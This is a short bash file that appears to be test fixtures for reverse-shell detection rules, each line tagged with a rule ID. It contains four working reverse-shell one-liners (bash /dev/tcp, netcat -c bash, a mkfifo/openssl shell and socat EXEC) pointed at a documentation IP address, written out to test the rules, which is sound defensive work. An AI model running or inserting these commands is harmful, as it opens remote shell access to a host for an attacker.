#!/bin/bash
# Third forms.

# ruleid: yara.reverse_shells.bash_dev_tcp
exec 5<>/dev/tcp/192.0.2.10/4444; cat <&5 | while read line; do $line 2>&5 >&5; done

# ruleid: yara.reverse_shells.netcat_exec
nc.traditional 192.0.2.10 4444 -c bash

# ruleid: yara.reverse_shells.fifo_shell
mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.10:4444 > /tmp/s; rm /tmp/s

# ruleid: yara.reverse_shells.socat_shell
socat -d -d OPENSSL-CONNECT:192.0.2.10:4443,verify=0 EXEC:/bin/sh
